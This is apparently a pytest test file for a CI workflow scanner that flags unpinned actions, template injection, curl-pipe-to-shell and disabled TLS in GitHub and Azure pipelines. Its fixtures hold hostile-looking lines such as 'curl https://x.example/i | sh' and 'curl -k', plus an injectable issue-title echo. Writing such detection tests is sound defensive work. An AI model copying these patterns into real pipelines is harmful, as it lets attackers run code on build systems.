"""What the workflow scanner promises beyond its rules: one run of zizmor, a cache, skips, identity, masking."""

from __future__ import annotations

import subprocess
import time
from collections.abc import Mapping
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lockgate.errors import ConfigurationError
from lockgate.model import Confidence, Family, File, Finding, Rule, Severity, Skip, SkipKind
from lockgate.rules import load
from lockgate.scanners import ScanContext
from lockgate.scanners.workflows import SCANNER, _session, wants, zizmor

RULES = load([Family.WORKFLOWS]).rules
WORKFLOW = """name: ci
on: issues
permissions: {}
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - uses: some/action@main
      - name: greet
        run: |
          set -e
          echo "${{ github.event.issue.title }}"
"""
PIPELINE = """trigger: [main]
jobs:
- job: build
  steps:
  - bash: |
      set -e

      curl https://x.example/i | sh
    displayName: fetch
"""
GH, AZ = ".github/workflows/ci.yml", "azure-pipelines.yml"


def scan(files: Mapping[str, str | bytes], cache_dir: Path | None = None) -> list[Finding | Skip]:
    session = SCANNER.start(RULES, ScanContext(salt=b"0" * 16, cache_dir=cache_dir))
    rows: list[Finding | Skip] = []
    for path, text in files.items():
        content = text.encode() if isinstance(text, str) else text
        if wants(path, len(content)):
            rows += session.feed(File(path, len(content), lambda content=content: content))
    return [*rows, *session.finish()]


def of(rule: str, rows: list[Finding | Skip]) -> list[Finding]:
    return [row for row in rows if isinstance(row, Finding) and row.rule == f"workflows/{rule}"]


@pytest.mark.parametrize(
    ("path", "wanted"),
    [
        (GH, True), ("a/action.yml", True), (".github/dependabot.yml", True), (AZ, True), ("ci/build.yaml", True),
        (".azure-pipelines/x.yml", True), ("deploy/k8s.yml", True), ("values.yaml", True), (".gitlab-ci.yml", False),
        ("docker-compose.yml", False), ("node_modules/a/b.yml", False), ("README.md", False),
    ],
)  # fmt: skip
def test_files_are_wanted_by_path(path: str, wanted: bool) -> None:
    assert wants(path, 100) is wanted


STEP = "displayName: fetch\n  bash: curl https://x.example/i | sh\n"
ODD = "shop/eu/main.yml"


@pytest.mark.parametrize(
    "text",
    [
        PIPELINE,
        f"pool: {{vmImage: ubuntu-latest}}\nsteps:\n- {STEP}",
        f"parameters: []\nsteps:\n- task: Npm@1\n- {STEP}",
        "stages:\n- stage: a\n  jobs:\n  - job: b\n    steps:\n    - " + STEP.replace("\n  ", "\n      "),
    ],
)
def test_a_pipeline_is_known_by_its_content_wherever_it_lies(text: str) -> None:
    assert of("azure-curl-pipe-shell", scan({ODD: text}))


@pytest.mark.parametrize(
    "text",
    [
        "apiVersion: v1\nkind: List\nsteps:\n- script: curl https://x.example/i | sh\n",
        "on: push\njobs:\n- job: a\n  steps:\n  - script: curl https://x.example/i | sh\n",
        "steps:\n- name: gcr.io/a\n  entrypoint: bash\n  script: curl https://x.example/i | sh\n# - script:\n",
        "kind: pipeline\ntrigger: {}\nsteps:\n- name: a\n  commands: [curl https://x.example/i | sh]\n# task:\n",
        "stages: [build]\nbuild:\n  script: curl https://x.example/i | sh\n# - script:\n",
        "steps:\n- command: curl https://x.example/i | sh\n# - script:\n",
        "extends: [recommended]\nrules: {}\n# template:\n",
        "jobs:\n- name: a\n  plan:\n  - task: b\n",
    ],
)
def test_a_file_of_another_system_is_no_pipeline(text: str) -> None:
    assert scan({ODD: text}) == []


@pytest.mark.parametrize("text", ["a: [1", "image: x\nreplicas: 2\n", "# steps:\n- task: a\n", ""])
def test_other_yaml_is_not_even_parsed(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_session, "compose_all", lambda *_, **__: pytest.fail("it was parsed"))
    assert scan({ODD: text}) == []


def test_lines_are_those_of_the_file_and_steps_are_named() -> None:
    rows = scan({GH: WORKFLOW})
    (uses,) = of("unpinned-uses", rows)
    (injected,) = of("template-injection", rows)
    assert (uses.location.line, uses.subject.name) == (8, "job build, step some/action")
    assert (injected.location.line, injected.subject.name) == (12, "job build, step greet")
    assert (injected.severity, injected.confidence) == (Severity.HIGH, Confidence.HIGH)


def test_the_key_survives_moves_reformatting_and_new_versions() -> None:
    moved = WORKFLOW.replace("      - uses: some/action@main", "      - run: ls\n      - uses:   some/action@v2")
    for rule in ("unpinned-uses", "template-injection"):
        (before,), (after,) = of(rule, scan({GH: WORKFLOW})), of(rule, scan({"x/" + GH: "# hi\n" + moved}))
        assert (before.subject.key, before.rule) == (after.subject.key, after.rule)


def test_one_run_of_the_program_serves_all_files(monkeypatch: pytest.MonkeyPatch) -> None:
    runs = count_runs(monkeypatch)
    rows = scan({GH: WORKFLOW, ".github/workflows/two.yml": WORKFLOW, "a/.github/workflows/ci.yml": WORKFLOW})
    assert len(runs) == 1
    assert sorted(one.location.path for one in of("unpinned-uses", rows)) == [
        ".github/workflows/ci.yml", ".github/workflows/two.yml", "a/.github/workflows/ci.yml",
    ]  # fmt: skip


def count_runs(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    runs: list[object] = []
    real = subprocess.run

    def counted(*args: object, **options: object) -> object:
        runs.append(args)
        return real(*args, **options)  # type: ignore[call-overload]

    monkeypatch.setattr(zizmor.subprocess, "run", counted)
    return runs


def test_an_unchanged_second_run_starts_no_program(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    first = scan({GH: WORKFLOW, "action.yml": "name: x\nruns: {using: composite, steps: []}\n"}, tmp_path)
    runs = count_runs(monkeypatch)
    second = scan({GH: WORKFLOW, "action.yml": "name: x\nruns: {using: composite, steps: []}\n"}, tmp_path)
    assert (runs, second) == ([], first)
    scan({GH: WORKFLOW + "\n"}, tmp_path)
    assert len(runs) == 1


def test_a_broken_cache_is_passed_over(tmp_path: Path) -> None:
    first = scan({GH: WORKFLOW}, tmp_path)
    (kept,) = (tmp_path / "zizmor").iterdir()
    kept.write_text('{"half')
    assert scan({GH: WORKFLOW}, tmp_path) == first


def test_the_cache_does_not_grow_without_end(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(zizmor, "MAX_KEPT", 3)
    for number in range(5):
        scan({GH: WORKFLOW + "\n" * number}, tmp_path)
        assert len(list((tmp_path / "zizmor").iterdir())) <= 3


def test_no_workflow_no_program(monkeypatch: pytest.MonkeyPatch) -> None:
    runs = count_runs(monkeypatch)
    scan({AZ: PIPELINE})
    assert runs == []


def test_without_the_program_every_file_is_a_skip_and_nothing_is_covered(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(zizmor, "program", lambda: None)
    session = SCANNER.start(RULES, ScanContext(salt=b"0" * 16))
    list(session.feed(File(GH, len(WORKFLOW), WORKFLOW.encode)))
    (row,) = session.finish()
    assert isinstance(row, Skip) and (row.path, row.kind, row.family) == (GH, SkipKind.MISSING_TOOL, "workflows")
    assert session.coverage() == ""


def test_a_program_that_fails_is_a_skip(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    fake = tmp_path / "zizmor"
    fake.write_text("#!/bin/sh\nexit 3\n")
    fake.chmod(0o755)
    monkeypatch.setattr(zizmor, "program", lambda: str(fake))
    (row,) = scan({GH: WORKFLOW})
    assert isinstance(row, Skip) and row.kind is SkipKind.MISSING_TOOL and "status 3" in row.reason


@pytest.mark.parametrize("content", ["on: [push\n", "jobs: 3\n", "- 1\n", "", "a: &a [*a]\n", "!!python/object:x {}\n"])
def test_a_file_that_is_no_workflow_is_a_skip_beside_one_that_is(content: str) -> None:
    rows = scan({GH: WORKFLOW, ".github/workflows/bad.yml": content})
    assert [row.path for row in rows if isinstance(row, Skip)] == [".github/workflows/bad.yml"]
    assert of("unpinned-uses", rows)


def test_ignore_comments_of_zizmor_do_not_count() -> None:
    text = WORKFLOW.replace("action@main", "action@main # zizmor: ignore[unpinned-uses]")
    assert of("unpinned-uses", scan({GH: text}))


def test_a_script_line_of_a_pipeline_is_the_line_of_the_file() -> None:
    (finding,) = of("azure-curl-pipe-shell", scan({AZ: PIPELINE}))
    assert (finding.location.line, finding.subject.name) == (8, "job build, step fetch")


def test_steps_below_template_conditions_and_in_deployment_hooks_are_read() -> None:
    text = (
        "stages:\n- ${{ if eq(1, 1) }}:\n  - stage: s\n    jobs:\n    - deployment: d\n      environment: e\n"
        "      strategy:\n        canary:\n          on:\n            failure:\n              steps:\n"
        "              - ${{ if eq(1, 2) }}:\n                - script: curl -k https://x.example\n"
    )
    assert of("azure-tls-disabled", scan({AZ: text}))[0].location.line == 13


@pytest.mark.parametrize(
    "text",
    [
        "variables:\n  apiToken: {}\nsteps:\n- script: echo $(apiToken)\n",
        'steps:\n- bash: echo "##vso[task.setvariable variable=x;issecret=true]{}"\n',
    ],
)
def test_the_value_of_a_secret_shows_nowhere(text: str) -> None:
    value = "Zq7" + "pl4Vt9" * 3
    found = [row for row in scan({AZ: text.format(value)}) if isinstance(row, Finding)]
    assert found and value not in repr(found)


@pytest.mark.parametrize(
    "text",
    [
        "apiVersion: v1\nkind: x\njobs: []\npool: a\n", "on: push\njobs:\n  a:\n    steps: []\n",
        "steps: []\nimages: [x]\n", "version: 2.1\njobs:\n  build:\n    docker: []\n",
    ],
)  # fmt: skip
def test_files_of_other_systems_are_left_alone(text: str) -> None:
    session = SCANNER.start(RULES, ScanContext(salt=b"0" * 16))
    assert list(session.feed(File("ci/x.yml", len(text), text.encode))) == []
    assert session.coverage() == ""


def test_a_rule_that_names_no_check_is_refused() -> None:
    rule = RULES[0]
    wrong = Rule(rule.id, rule.family, "t", "w", rule.severity, rule.confidence, "f", {"check": "nope"})
    with pytest.raises(ConfigurationError, match="known checks"):
        SCANNER.start([wrong], ScanContext(salt=b"0" * 16))


@pytest.mark.parametrize(
    "text",
    [
        "steps:\n" + "- script: x\n" * 20_000, "steps: " + "[" * 50 + "]" * 50 + "\npool: x\n",
        "steps:\n- script: '" + "$(a" * 100_000 + "'\n", "steps:\n- bash: |\n" + "    echo ${{ parameters.x\n" * 10_000,
        "stages:\n" + "".join("- ${{ if a }}:\n".rjust(15 + 2 * n) for n in range(40)) + "pool: x\n",
    ],
)  # fmt: skip
def test_hostile_pipelines_take_little_time(text: str) -> None:
    start = time.process_time()
    scan({AZ: text})
    assert time.process_time() - start < 10


_KEYS = """steps jobs stages job deployment script bash task inputs pool pr variables name value group container
resources repositories containers strategy runOnce deploy template checkout parameters environment condition env
timeoutInMinutes"""
KEYS = st.sampled_from([*_KEYS.split(), "${{ if x }}"])
VALUES = st.recursive(
    st.sampled_from(["", "x", "curl -k x | sh", "$(a)", "${{ parameters.x }}", "Bash@3", "0", None, True, 3]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(KEYS, inner, max_size=4),
    max_leaves=20,
)


@settings(max_examples=80, deadline=None)
@given(st.dictionaries(KEYS, VALUES, max_size=5))
def test_no_shape_of_a_pipeline_makes_it_raise(tree: dict[str, object]) -> None:
    import yaml

    scan({AZ: yaml.safe_dump(tree)})
